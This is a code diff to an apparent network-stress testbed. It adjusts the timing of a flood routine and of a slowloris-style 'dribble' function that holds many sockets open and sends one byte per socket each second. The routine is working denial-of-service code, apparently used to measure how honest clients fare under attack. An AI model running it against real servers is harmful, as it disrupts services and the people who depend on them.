@@ -290,7 +290,7 @@ class Attack:
     def flood(self, target: str, visited: bool, turn: int) -> tuple[int, float, Outcome]:
         """The flood, and the clients in it: packets sent, seconds, what became of the clients."""
         # Clients come as long as the flood goes; without a rate, as long as the quickest device would take.
-        seconds = self.packets / (self.rate or 700_000) if self.kind != "slowloris" else self.packets / DRIBBLES
+        seconds = self.packets / (self.rate or 700_000) if self.kind != "slowloris" else max(1.0, self.packets / DRIBBLES)
         live = LIVE if self.kind == "data" else 0
         flows = [(int(IPv4Address(HONEST[1].partition("/")[0])), honest.LIVE_PORT + i) for i in range(live)]
 
@@ -328,8 +328,11 @@ def dribble(target: str, count: int, seconds: float) -> tuple[int, float]:
             raise OSError(failed, os.strerror(failed))
         socks[sock.fileno()] = sock
         poll.register(sock, select.EPOLLOUT)
-    turn = 0
-    while (now := time.monotonic()) < started + seconds:
+    # The first bytes go half a second later, when those that are let in are connected.
+    due = started + 0.5
+    while due < started + seconds:
+        time.sleep(max(0.0, due - time.monotonic()))
+        due += 1.0
         for fd, _ in poll.poll(0, count):
             try:
                 sent += socks[fd].send(b"G")
@@ -337,8 +340,7 @@ def dribble(target: str, count: int, seconds: float) -> tuple[int, float]:
                 # Turned away by the server.
                 poll.unregister(fd)
                 socks.pop(fd).close()
-        turn += 1
-        time.sleep(max(0.0, started + turn - now))
+    time.sleep(max(0.0, started + seconds - time.monotonic()))
     poll.close()
     for sock in socks.values():
         sock.close()
